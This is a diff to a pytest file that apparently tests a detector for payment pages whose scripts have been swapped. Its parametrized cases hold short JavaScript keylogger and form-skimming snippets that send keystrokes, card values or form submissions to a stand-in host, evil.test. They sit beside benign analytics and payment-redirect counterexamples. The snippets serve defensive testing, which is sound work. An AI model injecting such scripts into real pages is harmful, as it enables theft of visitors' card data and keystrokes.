@@ -434,6 +434,7 @@ PAID_ELSEWHERE = [
     ('<img src="https://codes.test/qr?data=upi%3A%2F%2Fpay%3Fpa%3D{}%40bank">', "ours", "theirs"),
     ('<img src="https://codes.test/qr?data=https%3A%2F%2Fpaypal.me%2F{}">', "ours", "theirs"),
     ("<p>paypal.me/{}</p>", "ours", "theirs"),
+    ('<iframe src="https://docs.google.com/forms/d/e/{}/viewform"></iframe>', "ours", "theirs"),
     ("<script>kofiwidget2.init('Support','#29abe0','{}')</script>", "A1B2C3", "Z9Y8X7"),
     ("<script data-id='{}' src='https://cdn.buymeacoffee.com/widget.js'></script>", "ours", "theirs"),
 ]
@@ -454,6 +455,11 @@ def test_a_form_that_anybody_opened_is_a_payee_when_the_link_asks_for_gifts() ->
     "script",
     [
         "document.addEventListener('input',e=>navigator.sendBeacon('https://evil.test/k',e.target.value))",
+        "var x=new XMLHttpRequest();x.open('POST','https://evil.test/c');x.send(card.value)",
+        "document.onkeyup=e=>{new Image().src='https://evil.test/?'+e.key}",
+        "var w=new WebSocket('wss://evil.test/'); onkeyup=e=>w.send(e.key)",
+        "form.addEventListener('submit',function(e){e.preventDefault();location='https://evil.test/pay'})",
+        "form.onsubmit=()=>{location.href='https://evil.test/pay'}",
         "eval(\"document.forms[0].action='https://evil.test/pay'\")",
     ],
 )
@@ -461,6 +467,15 @@ def test_a_script_that_sends_what_is_typed_to_a_stranger_is_a_swap(script: str) 
     assert outcome(page(extra=f"<script>{script}</script>")) == SWAPPED
 
 
-def test_a_script_that_counts_visits_is_no_swap() -> None:
-    script = "navigator.sendBeacon('https://stats.test/c', JSON.stringify({at: location.href}))"
+@pytest.mark.parametrize(
+    "script",
+    [
+        "navigator.sendBeacon('https://stats.test/c', JSON.stringify({at: location.href}))",
+        "new Image().src='https://stats.test/pixel?'+Date.now()",
+        "find.onkeyup=e=>fetch('https://search.test/?q='+e.target.value).then(show)",
+        "form.addEventListener('submit',function(e){e.preventDefault();location='/thanks'})",
+        "form.addEventListener('submit',function(e){location='https://payment.test/pay'})",
+    ],
+)
+def test_a_script_that_counts_visits_searches_or_pays_as_approved_is_no_swap(script: str) -> None:
     assert outcome(page(extra=f"<script>{script}</script>"))[0] == "live"
